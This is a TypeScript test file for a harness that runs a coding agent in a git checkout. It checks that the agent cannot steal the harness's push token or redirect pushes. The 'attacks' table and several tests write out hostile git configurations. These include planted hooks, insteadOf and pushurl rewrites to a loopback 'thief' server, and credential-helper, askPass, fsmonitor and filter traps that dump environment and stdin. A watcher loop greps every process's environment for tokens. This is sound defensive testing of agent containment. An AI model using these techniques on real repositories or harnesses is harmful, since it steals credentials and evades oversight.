import { existsSync } from "node:fs";
import { mkdtemp, readFile, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, onTestFinished, test } from "vitest";
import { listenOnLoopback } from "../../../local/http-server.ts";
import { type GitHost, ghToken, runGit, serveRepository, writeFiles } from "../git-host.ts";
import { makeFolder } from "../job-folder.ts";
import { openStudio } from "./studio.ts";

/** A server of the attacker's, which asks everyone for a password and remembers what it was told. */
async function startThief() {
  const seen: string[] = [];
  const server = await listenOnLoopback((request, response) => {
    seen.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
    response.writeHead(401, { "www-authenticate": 'Basic realm="thief"' }).end();
  });
  onTestFinished(() => server.close());
  return { url: server.url, seen };
}

/** A rewrite of the job's URL, as the job gives it and with the user name that git is given. */
const rewrite = (host: string, to: string, key = "insteadOf"): string =>
  [host, host.replace("//", "//x-access-token@")]
    .map((from) => `git config --add 'url.${to}.${key}' ${from}/`)
    .join("; ");

/**
 * What an agent leaves behind in its checkout: `trap` is a program of its own, `thief` its server, `host` the origin of
 * the job's remote.
 */
const attacks: Readonly<Record<string, (at: { trap: string; thief: string; host: string }) => string>> = {
  "a pre-push hook": ({ trap }) => `cp ${trap} .git/hooks/pre-push`,
  "a reference-transaction hook": ({ trap }) => `cp ${trap} .git/hooks/reference-transaction`,
  "core.hooksPath": ({ trap }) =>
    `mkdir hooks && cp ${trap} hooks/pre-push && cp ${trap} hooks/pre-commit && git config core.hooksPath hooks`,
  "include.path": ({ trap }) =>
    `printf '[core]\\n\\tfsmonitor = ${trap}\\n\\taskPass = ${trap}\\n[credential]\\n\\thelper = !${trap}\\n' > .git/more; git config include.path more`,
  "url.insteadOf": ({ thief, host }) => rewrite(host, `${thief}/`),
  "url.pushInsteadOf": ({ thief, host }) => rewrite(host, `${thief}/`, "pushInsteadOf"),
  "remote.pushurl": ({ thief }) => `git config remote.origin.pushurl ${thief}/octo/app.git`,
  "another origin": ({ thief }) => `git remote set-url origin ${thief}/octo/app.git`,
  "a pushurl on this machine, with a hook of its own": ({ trap }) =>
    `git init -q --bare $TMPDIR/evil.git; cp ${trap} $TMPDIR/evil.git/hooks/pre-receive; git config remote.origin.pushurl $TMPDIR/evil.git`,
  "remote.receivepack": ({ trap }) =>
    `git init -q --bare $TMPDIR/evil.git; git config remote.origin.pushurl $TMPDIR/evil.git; git config remote.origin.receivepack ${trap}`,
  "http.proxy": ({ thief }) => `git config http.proxy ${thief}`,
  "core.sshCommand": ({ trap, host }) =>
    `git config core.sshCommand ${trap}; ${rewrite(host, "ssh://git@example.invalid/")}`,
  "the ext protocol": ({ trap, host }) =>
    `git config protocol.ext.allow always; ${rewrite(host, `ext::${trap} %S `)}`,
  "credential.helper": ({ trap }) => `git config credential.helper '!${trap}'`,
  "credential.helper for the remote's own address": ({ trap, host }) =>
    `git config credential.${host}.helper '!${trap}'`,
  "core.askPass": ({ trap }) => `git config core.askPass ${trap}`,
  "core.fsmonitor": ({ trap }) => `git config core.fsmonitor ${trap}`,
  "a filter for every file": ({ trap }) =>
    `git config filter.evil.clean ${trap}; git config filter.evil.process ${trap}; echo '* filter=evil' > .git/info/attributes; echo '* filter=evil' > .gitattributes; echo edited > README.md`,
  "uploadpack.packObjectsHook": ({ trap }) => `git config uploadpack.packObjectsHook ${trap}`,
  "a .gitconfig in its home": ({ thief, trap, host }) =>
    `printf '[core]\\n\\thooksPath = ${trap}\\n[url "${thief}/"]\\n\\tinsteadOf = ${host}/\\n\\tinsteadOf = ${host.replace("//", "//x-access-token@")}/\\n' > $HOME/.gitconfig`,
  "submodules elsewhere": ({ thief }) =>
    `printf '[submodule "x"]\\n\\tpath = x\\n\\turl = ${thief}/x.git\\n' > .gitmodules; git config submodule.x.url ${thief}/x.git; git config push.recurseSubmodules on-demand; git add .gitmodules`,
  "a partial clone that fetches on demand": ({ thief, trap }) =>
    `git config remote.evil.url ${thief}/x.git; git config remote.evil.promisor true; git config remote.evil.uploadpack ${trap}; git config extensions.partialClone evil`,
};

/** Of these even a push from the checkout itself would have given nothing away with the git of today. */
const harmlessAnyway: ReadonlySet<string> = new Set([
  "credential.helper",
  "credential.helper for the remote's own address",
  "core.askPass",
  "uploadpack.packObjectsHook",
  "submodules elsewhere",
  "a partial clone that fetches on demand",
]);

/** The control: what git would do for whoever pushed from the agent's checkout. It does not matter how it ends. */
async function pushFromTheCheckout(folder: string, jobFolder: string): Promise<void> {
  const askpass = join(folder, "naive-askpass");
  await writeFile(askpass, `#!/bin/sh\necho ${ghToken}\n`, { mode: 0o755 });
  const script =
    "timeout 5 git add -u; timeout 5 git commit -q --allow-empty -m naive; timeout 5 git push origin HEAD:refs/heads/naive";
  await execa("sh", ["-c", script], {
    cwd: join(jobFolder, "checkout"),
    env: { GIT_ASKPASS: askpass, GIT_TERMINAL_PROMPT: "0", HOME: await homeOfAgent(jobFolder) },
    reject: false,
    stdin: "ignore",
  });
}

async function homeOfAgent(jobFolder: string): Promise<string> {
  const folder = join(jobFolder, "agent");
  const home = (await readdir(folder)).find((name) => name.startsWith("home-"));
  return join(folder, home ?? "");
}

let shared: GitHost | undefined;
let sharedFolder = "";

beforeAll(async () => {
  sharedFolder = await mkdtemp(join(tmpdir(), "holt-test-"));
  shared = await serveRepository(sharedFolder);
});

afterAll(async () => {
  await shared?.server.close();
  await rm(sharedFolder, { recursive: true, force: true });
});

for (const [name, plant] of Object.entries(attacks)) {
  test(`${name}: nothing is stolen, nothing redirected, and the push arrives`, async ({ expect }) => {
    const thief = await startThief();
    const loot = join(await makeFolder(), "loot");
    const trap = `${loot}.sh`;
    const script = (host: string): string => `
commit work.txt
printf '#!/bin/sh\\n{ echo "$0 $*"; env; cat <&3; } >> ${loot} 2>&1\\nexit 1\\n' > ${trap}; chmod +x ${trap}
mkdir -p .git/hooks .git/info
${plant({ trap, thief: thief.url, host })}
say ok`;
    const branch = `cat/${name.replaceAll(/[^a-z]+/gi, "-")}`;
    const studio = await openStudio({
      ...(shared !== undefined && { host: shared }),
      agent: (host) => script(new URL(host.cloneUrl).origin),
      job: { newBranch: branch, pushBranch: branch, pr: undefined },
    });
    const terminal = await studio.run();
    expect(terminal).toMatchObject({ state: "done", result: { pushed: true } });
    expect(thief.seen).toEqual([]);
    expect(existsSync(loot)).toBe(false);
    const files = await studio.host.inRepository("ls-tree", "-r", "--name-only", branch);
    expect(files.split("\n")).toContain("work.txt");
    if (harmlessAnyway.has(name)) return;
    await pushFromTheCheckout(studio.folder, studio.recording.context.folder);
    expect(thief.seen.length > 0 || existsSync(loot)).toBe(true);
  });
}

test("where nothing was planted, both the harness's push and one from the checkout arrive", async ({
  expect,
}) => {
  const studio = await openStudio({ agent: "commit work.txt; say ok", job: { pr: undefined } });
  expect(await studio.run()).toMatchObject({ state: "done", result: { pushed: true } });
  await pushFromTheCheckout(studio.folder, studio.recording.context.folder);
  expect(await studio.host.inRepository("show", "naive:work.txt")).toBe("work.txt");
});

/** Looks at every process it can see, over and over, for what must stand in none of them. */
const watchProcesses = (loot: string): string => `
watch() { while :; do cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a "gh[s]_" >> ${loot}; done; }
watch & watch &`;

test("an agent that watches every process's environment and arguments sees no token in any push", async ({
  expect,
}) => {
  const loot = join(await makeFolder(), "loot");
  const studio = await openStudio({
    limits: { checkpointMs: 50 },
    agent: `${watchProcesses(loot)}
for n in 1 2 3; do commit $n.txt; done
wait_for_go
kill %1 %2; say ok`,
  });
  const running = studio.run();
  await studio.host.server.waitForPush(() => true);
  await studio.letGo();
  expect(await running).toMatchObject({ state: "done", result: { pushed: true } });
  expect(await readFile(loot, "utf8")).toBe("");
});

test("planted while the agent still works: a checkpoint push gives nothing away either", async ({
  expect,
}) => {
  const thief = await startThief();
  const loot = join(await makeFolder(), "loot");
  const studio = await openStudio({
    limits: { checkpointMs: 50 },
    agent: (host) => `
mkdir -p .git/hooks
printf '#!/bin/sh\\n{ env; cat <&3; } >> ${loot} 2>&1\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push
git remote set-url origin ${thief.url}/octo/app.git
${rewrite(new URL(host.cloneUrl).origin, `${thief.url}/`)}
commit work.txt
wait_for_go
say ok`,
  });
  const running = studio.run();
  await studio.host.server.waitForPush(() => true);
  await studio.letGo();
  expect(await running).toMatchObject({ state: "done", result: { pushed: true } });
  expect(thief.seen).toEqual([]);
  expect(existsSync(loot)).toBe(false);
});

test("hooks that come with the repository do not run", async ({ expect }) => {
  const loot = join(await makeFolder(), "loot");
  const hook = `#!/bin/sh\necho ran >> ${loot}\nexit 1\n`;
  const studio = await openStudio({
    files: { "README.md": "hello\n", ".husky/pre-commit": hook, ".husky/post-checkout": hook },
    agent: "chmod +x .husky/*; git config core.hooksPath .husky; echo edited > README.md; say ok",
  });
  expect(await studio.run()).toMatchObject({ state: "done", result: { pushed: true } });
  expect(existsSync(loot)).toBe(false);
});

test("the agent finds no credential of the job's remote and nothing of the harness's environment", async ({
  expect,
}) => {
  const found = join(await makeFolder(), "found");
  const studio = await openStudio({
    agent: `env > ${found}; cat .git/config >> ${found}; ls -a $HOME >> ${found}; commit work.txt; say ok`,
    env: {
      HARNESS_SHARED_SECRET: "harness-secret",
      PORT: "8080",
      NODE_ENV: "production",
      GIT_DIR: "/nowhere",
    },
  });
  expect(await studio.run()).toMatchObject({ state: "done" });
  const text = await readFile(found, "utf8");
  expect(text).not.toContain(ghToken);
  for (const name of ["HARNESS_SHARED_SECRET", "PORT", "NODE_ENV", "GIT_DIR"]) {
    expect(text).not.toMatch(new RegExp(`^${name}=`, "m"));
  }
  expect(text).toContain("PI_PROXY_TOKEN=session-token");
  // git of the agent's asks nobody for a password
  expect(text).toContain("GIT_TERMINAL_PROMPT=0");
});

const contextFiles = [{ path: "ticket.md", content: "the ticket\n", title: "Ticket", url: "" }];

test("context files are laid beside the code, and neither seen nor pushed by git", async ({ expect }) => {
  const studio = await openStudio({
    agent: `test "$(cat .cat-context/ticket.md)" = "the ticket" && test -z "$(git status --porcelain)" && commit work.txt; say ok`,
    job: { contextFiles },
  });
  expect(await studio.run()).toMatchObject({ state: "done", result: { pushed: true } });
  const notes = studio.recording.reported.flatMap((report) => (report.kind === "note" ? [report.code] : []));
  expect(notes).not.toContain("untracked-files");
});

test("a .cat-context that is a link is not followed", async ({ expect }) => {
  const outside = await makeFolder();
  const studio = await openStudio({
    agent: "test -f .cat-context/ticket.md && commit work.txt; say ok",
    job: { contextFiles },
    before: async (host) => {
      const clone = join(await makeFolder(), "clone");
      await runGit(outside, "clone", "-q", host.server.repositoryPath("octo", "app"), clone);
      await symlink(outside, join(clone, ".cat-context"));
      await runGit(outside, "-C", clone, "add", "-A");
      await runGit(outside, "-C", clone, "commit", "-q", "-m", "Link");
      await runGit(outside, "-C", clone, "push", "-q", "origin", "main");
    },
  });
  expect(await studio.run()).toMatchObject({ state: "done", result: { pushed: true } });
  expect(await readdir(outside)).toEqual([]);
  const listed = await studio.host.inRepository("ls-tree", "cat/1", ".cat-context");
  expect(listed).toMatch(/^120000 blob/);
});

test("a context file whose place a link or a folder has taken is laid all the same, and not through the link", async ({
  expect,
}) => {
  const outside = await makeFolder();
  await writeFile(join(outside, "theirs.md"), "theirs\n");
  const studio = await openStudio({
    agent: `test "$(cat .cat-context/ticket.md .cat-context/more.md)" = "$(printf 'the ticket\\nmore')" && commit work.txt; say ok`,
    job: { contextFiles: [...contextFiles, { path: "more.md", content: "more\n", title: "More", url: "" }] },
    before: async (host) => {
      const clone = join(await makeFolder(), "clone");
      await runGit(outside, "clone", "-q", host.server.repositoryPath("octo", "app"), clone);
      await writeFiles(clone, { ".cat-context/more.md/inner.txt": "inner\n" });
      await symlink(join(outside, "theirs.md"), join(clone, ".cat-context", "ticket.md"));
      await runGit(outside, "-C", clone, "add", "-A");
      await runGit(outside, "-C", clone, "commit", "-q", "-m", "Plant");
      await runGit(outside, "-C", clone, "push", "-q", "origin", "main");
    },
  });
  expect(await studio.run()).toMatchObject({ state: "done", result: { pushed: true } });
  expect(await readFile(join(outside, "theirs.md"), "utf8")).toBe("theirs\n");
  const kept = await studio.host.inRepository("ls-tree", "-r", "--name-only", "cat/1", ".cat-context");
  expect(kept.split("\n")).toEqual([".cat-context/more.md/inner.txt", ".cat-context/ticket.md"]);
});

test("the service's folder is where the agent works; a link in its place is refused", async ({ expect }) => {
  const repo = {
    owner: "octo",
    name: "app",
    baseBranch: "main",
    cloneUrl: "",
    serviceDirectory: "packages/api",
  };
  const inside = await openStudio({
    files: { "packages/api/a.txt": "a\n" },
    agent: "test -f a.txt && commit work.txt; say ok",
    job: { repo },
  });
  expect(await inside.run()).toMatchObject({ state: "done", result: { pushed: true } });
  const outside = await makeFolder();
  const linked = await openStudio({
    agent: "commit work.txt; say ok",
    job: { repo },
    before: async (host) => {
      const clone = join(await makeFolder(), "clone");
      await runGit(outside, "clone", "-q", host.server.repositoryPath("octo", "app"), clone);
      await symlink(outside, join(clone, "packages"));
      await runGit(outside, "-C", clone, "add", "-A");
      await runGit(outside, "-C", clone, "commit", "-q", "-m", "Link");
      await runGit(outside, "-C", clone, "push", "-q", "origin", "main");
    },
  });
  expect(await linked.run()).toMatchObject({
    state: "failed",
    error: "'repo.serviceDirectory' is no folder inside the repository: packages/api",
  });
  expect(await readdir(outside)).toEqual([]);
});
